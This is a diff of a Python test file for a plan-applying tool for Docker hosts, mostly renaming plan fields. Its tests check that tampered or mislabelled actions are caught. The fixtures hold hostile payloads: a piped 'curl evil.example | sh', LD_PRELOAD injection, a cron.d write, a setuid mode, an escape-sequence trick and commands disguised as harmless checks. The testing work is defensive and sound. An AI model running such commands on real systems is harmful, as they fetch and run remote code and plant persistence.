@@ -32,8 +32,8 @@ HERE, THERE = EXAMPLES / "debian12-l4", EXAMPLES / "debian13-rtx4090"
 EVIL = {
     "kind": "run",
     "argv": ["sh", "-c", "touch /tmp/pwned"],
-    "says": "check that daemon.json is valid",
-    "looks": True,
+    "description": "check that daemon.json is valid",
+    "read_only": True,
 }
 
 Document = dict[str, Any]
@@ -80,7 +80,7 @@ TAMPERED: dict[str, tuple[Callable[[Document], object], str]] = {
     "the words alone": (lambda d: run(d).update(says="apt-get --version"), "apt-get --version"),
     "a script on stdin": (lambda d: script(d).update(stdin="touch /tmp/pwned\n"), "stdin"),
     "the environment": (lambda d: run(d)["env"].append(["LD_PRELOAD", "/tmp/x.so"]), "env"),
-    "which exit codes are good": (lambda d: run(d).update(ok=[0, 1, 100]), "ok"),
+    "which exit codes are good": (lambda d: run(d).update(ok_codes=[0, 1, 100]), "ok"),
     "one byte of a file": (lambda d: put(d).update(text=put(d)["text"] + " "), "text"),
     "a file's path": (lambda d: put(d).update(path="/etc/cron.d/x"), "/etc/cron.d/x"),
     "a file's mode": (lambda d: put(d).update(mode=0o4777), "mode"),
@@ -162,7 +162,7 @@ def test_a_summary_that_lies_is_not_shown(saved: Path, capsys: pytest.CaptureFix
 @pytest.mark.parametrize("sha", ["then", "now"], ids=["of other facts", "of these very facts"])
 def test_no_action_of_the_file_runs_on_the_host(tmp_path: Path, sha: str) -> None:
     machine, pwned = Machine(tmp_path), tmp_path / "pwned"
-    evil = plan(Run(("touch", str(pwned)), says="check that daemon.json is valid"))
+    evil = plan(Run(("touch", str(pwned)), description="check that daemon.json is valid"))
     with pytest.raises(Drift):
         way(machine, [plan(Run(("true",)))], saved=Plan(**{**vars(evil), "facts_sha256": sha}), host=HOST).run()
     assert not pwned.exists()
@@ -367,9 +367,13 @@ def test_what_is_no_plan_is_refused_by_place(
 
 def test_v_shows_what_runs_and_not_only_what_it_says_of_itself() -> None:
     actions = (
-        Run(("sh", "-c", "touch '/tmp/pwned'\x1b[2K"), says="check that daemon.json is valid", env=(("A", "b c"),)),
-        Run(("sh", "-s"), stdin="curl evil.example | sh\n", says="look around"),
-        PutFile("/etc/docker/daemon.json", "{}", validate=Run(("sh", "-c", "id"), says="dockerd --validate")),
+        Run(
+            ("sh", "-c", "touch '/tmp/pwned'\x1b[2K"),
+            description="check that daemon.json is valid",
+            env=(("A", "b c"),),
+        ),
+        Run(("sh", "-s"), stdin="curl evil.example | sh\n", description="look around"),
+        PutFile("/etc/docker/daemon.json", "{}", validate=Run(("sh", "-c", "id"), description="dockerd --validate")),
         Run(("x" * 5000,)),
     )
     told = Plan("h", Spec(), "", steps=(Step("a", "t", "w", actions),))
